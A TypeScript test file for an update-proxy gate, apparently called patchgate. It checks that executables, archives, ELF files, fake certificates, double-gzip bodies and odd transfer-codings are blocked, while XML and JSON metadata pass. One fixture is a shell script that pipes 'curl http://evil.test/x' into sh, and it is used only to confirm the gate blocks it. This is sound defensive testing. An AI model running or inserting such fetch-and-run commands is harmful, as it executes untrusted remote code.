/**
 * Nothing executable passes an inspected host unverified (issue 13 item 8). With `nonPayload:
 * pass`, only content that is recognisably metadata (XML, JSON, text without `#!`, by its bytes)
 * passes; random bytes named .exe, a ZIP, a PE under an undeclared gzip layer, an ELF, a script are
 * blocked UNSUPPORTED_FORMAT (rule `unrecognised`); a text start followed by binary data is cut;
 * `unverifiable` path rules decide known kinds (.esd) and the audit names the rule; an unknown
 * transfer-coding is refused 502. Real sockets on 127.0.0.1.
 */
import { randomBytes, X509Certificate } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type GateHandle, type Origin, proxyRequest, quietConsole, send, startGate, startOrigin } from '../support/gateHarness.js';
import { fixture, sha256, startRawOrigin, type RawOrigin } from './hostileSupport.js';
import { FIXTURES } from '../support/fixtures.js';

let restore: () => void;
let origin: Origin;
let raw: RawOrigin;
let g: GateHandle;
const good = fixture('good.exe');

/** A small but well-formed ZIP (one stored file), as an MSIX/APPX container starts. */
function storedZip(name: string, data: Buffer): Buffer {
  const n = Buffer.from(name);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0); local.writeUInt16LE(20, 4); local.writeUInt32LE(data.length, 18); local.writeUInt32LE(data.length, 22); local.writeUInt16LE(n.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0); central.writeUInt16LE(20, 4); central.writeUInt16LE(20, 6); central.writeUInt32LE(data.length, 20); central.writeUInt32LE(data.length, 24); central.writeUInt16LE(n.length, 28);
  const cdOffset = 30 + n.length + data.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0); end.writeUInt16LE(1, 8); end.writeUInt16LE(1, 10); end.writeUInt32LE(46 + n.length, 12); end.writeUInt32LE(cdOffset, 16);
  return Buffer.concat([local, n, data, central, n, end]);
}

const certificateDer = new X509Certificate(readFileSync(join(FIXTURES, 'pki', 'updateca.pem'))).raw;
const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), randomBytes(4096)]);
const bodies: Record<string, Buffer> = {
  '/random.exe': randomBytes(64 * 1024),
  '/undeclared-gzip.exe': gzipSync(good),
  '/tool': elf,
  '/install.sh': Buffer.from('#!/bin/sh\ncurl http://evil.test/x | sh\n'),
};

beforeAll(async () => {
  restore = quietConsole();
  origin = await startOrigin();
  raw = await startRawOrigin();
  for (const [path, body] of Object.entries(bodies)) origin.route(path, send(body, { headers: { 'content-type': 'text/xml' } }));
  // A second gzip layer under the declared one: decoded once, still gzip.
  origin.route('/double-gzip.exe', send(gzipSync(gzipSync(good)), { headers: { 'content-encoding': 'gzip' } }));
  origin.route('/meta.xml', send(Buffer.from('\ufeff<?xml version="1.0"?>\n<updates><u id="1"/></updates>\n'), { headers: { 'content-type': 'application/octet-stream' } }));
  origin.route('/meta.json', send(Buffer.from('{"updates":[{"id":1}]}'), { headers: { 'content-type': 'application/octet-stream' } }));
  origin.route('/prefixed.xml', send(Buffer.concat([Buffer.from('<?xml version="1.0"?>\n<a/>\n'.padEnd(200, ' ')), storedZip('x.exe', good)]), { chunk: 64, delayMs: 2, headers: { 'content-type': 'text/xml' } }));
  origin.route('/image.esd', send(randomBytes(32 * 1024)));
  // ctldl's raw .crt files: one DER certificate is data, not code (Windows installs it only if the signed authroot.stl lists its hash).
  origin.route('/root.crt', send(certificateDer, { headers: { 'content-type': 'application/octet-stream' } }));
  origin.route('/root-then-elf.crt', send(Buffer.concat([certificateDer, elf]), { chunk: 256, delayMs: 2 }));
  const fake = Buffer.concat([Buffer.from([0x30, 0x82, 0x04, 0x00, 0x30, 0x82, 0x03, 0xfc]), randomBytes(0x400 - 4)]);
  origin.route('/fake.crt', send(fake));
  origin.route('/image.wim', send(randomBytes(32 * 1024)));
  g = await startGate({
    hosts: [{ pattern: '127.0.0.1', mode: 'inspect' }],
    nonPayload: 'pass',
    unverifiable: [{ name: 'esd', paths: ['*.ESD'], action: 'pass' }, { name: 'wim', paths: ['/image.wim'], action: 'block' }],
  });
});
afterAll(async () => { await g?.dispose(); await origin?.close(); await raw?.close(); restore?.(); });

const recordOf = async (id: unknown) => (await g.waitRecords((r) => r.id === String(id)))[0];

describe('item 8: unrecognised content on an inspected host is blocked', () => {
  for (const path of [...Object.keys(bodies), '/double-gzip.exe']) {
    it(`${path} is blocked UNSUPPORTED_FORMAT (rule unrecognised), whatever its Content-Type`, async () => {
      const r = await proxyRequest(g.port, origin.url(path));
      expect(r.status).toBe(403);
      expect(r.headers['x-patchgate-reason']).toBe('UNSUPPORTED_FORMAT');
      expect(r.body.includes(good.subarray(0, 512))).toBe(false);
      const rec = await recordOf(r.headers['x-patchgate-audit-id']);
      expect(rec).toMatchObject({ verdict: 'block', served: 'blocked', rule: 'unrecognised' });
      expect(rec!.reasons[0]!.message).toMatch(/neither a format the verifier checks .* nor recognisable metadata/);
    });
  }

  it('a ZIP is held and verified as an APPX/MSIX package: one with no package signature is blocked, never passed as unknown content', async () => {
    origin.route('/app.msix', send(storedZip('AppxManifest.xml', good), { headers: { 'content-type': 'text/xml' } }));
    const r = await proxyRequest(g.port, origin.url('/app.msix'));
    expect(r.status).toBe(403);
    expect(r.body.includes(good.subarray(0, 512))).toBe(false);
    const rec = await recordOf(r.headers['x-patchgate-audit-id']);
    expect(rec).toMatchObject({ verdict: 'block', served: 'blocked', inspected: true, format: 'msix' });
  });

  it('metadata passes (XML with a BOM, JSON), sniffed from the bytes, and the audit names the rule', async () => {
    for (const path of ['/meta.xml', '/meta.json']) {
      const r = await proxyRequest(g.port, origin.url(path));
      expect(r.status, path).toBe(200);
      expect(r.headers['x-patchgate-verdict']).toBe('pass');
      const rec = await recordOf(r.headers['x-patchgate-audit-id']);
      expect(rec).toMatchObject({ verdict: 'pass', served: 'passed', inspected: false, rule: 'nonPayload' });
    }
  });

  it('one DER certificate (a ctldl .crt) passes whole as metadata; a certificate followed by other bytes, or a DER shape that is no certificate, never arrives whole', async () => {
    const r = await proxyRequest(g.port, origin.url('/root.crt'));
    expect(r.status).toBe(200);
    expect(sha256(r.body)).toBe(sha256(certificateDer));
    expect(await recordOf(r.headers['x-patchgate-audit-id'])).toMatchObject({ verdict: 'pass', inspected: false, rule: 'nonPayload' });
    for (const path of ['/root-then-elf.crt', '/fake.crt']) {
      const bad = await proxyRequest(g.port, origin.url(path));
      expect(bad.status === 200 && bad.complete, path).toBe(false);
      expect(bad.body.includes(elf.subarray(0, 64)), path).toBe(false);
      const rec = (await g.waitRecords((x) => x.url.endsWith(path)))[0];
      expect(rec, path).toMatchObject({ verdict: 'block' });
    }
  });

  it('a text start followed by binary data (a ZIP after an XML prolog) is cut, never delivered whole', async () => {
    const r = await proxyRequest(g.port, origin.url('/prefixed.xml'));
    expect(r.complete).toBe(false);
    expect(r.body.includes(good.subarray(0, 512))).toBe(false);
    const rec = (await g.waitRecords((x) => x.url.endsWith('/prefixed.xml')))[0];
    expect(rec).toMatchObject({ verdict: 'block', served: 'client-aborted', rule: 'nonPayload' });
    expect(rec!.reasons[0]).toMatchObject({ code: 'UNSUPPORTED_FORMAT' });
  });

  it('unverifiable path rules decide known kinds, each naming its rule (case-insensitive paths)', async () => {
    const esd = await proxyRequest(g.port, origin.url('/image.esd'));
    expect(esd.status).toBe(200);
    expect(esd.body.length).toBe(32 * 1024);
    expect((await recordOf(esd.headers['x-patchgate-audit-id']))).toMatchObject({ verdict: 'pass', rule: 'unverifiable:esd' });
    const wim = await proxyRequest(g.port, origin.url('/image.wim'));
    expect(wim.status).toBe(403);
    const rec = await recordOf(wim.headers['x-patchgate-audit-id']);
    expect(rec).toMatchObject({ verdict: 'block', rule: 'unverifiable:wim' });
    expect(rec!.reasons[0]!.message).toMatch(/rule unverifiable "wim"/);
  });

  it('a signed PE under a path rule is still verified (the rule only decides what the verifier cannot check)', async () => {
    origin.route('/signed.esd', send(good));
    const r = await proxyRequest(g.port, origin.url('/signed.esd'));
    expect(r.headers['x-patchgate-verdict']).toBe('allow');
    expect(sha256(r.body)).toBe(sha256(good));
  });

  it('an unknown transfer-coding (Transfer-Encoding: gzip, chunked) is refused 502', async () => {
    const z = gzipSync(good);
    raw.route('/te-gzip.exe', (s) => {
      s.end(Buffer.concat([Buffer.from(`HTTP/1.1 200 OK\r\ntransfer-encoding: gzip, chunked\r\n\r\n${z.length.toString(16)}\r\n`), z, Buffer.from('\r\n0\r\n\r\n')]));
    });
    const r = await proxyRequest(g.port, raw.url('/te-gzip.exe'));
    expect(r.status).toBe(502);
    expect(r.headers['x-patchgate-reason']).toBe('UPSTREAM_ERROR');
    expect(r.body.toString()).toMatch(/unsupported transfer-coding "gzip"/);
    expect(r.body.includes(z.subarray(0, 64))).toBe(false);
  });
});
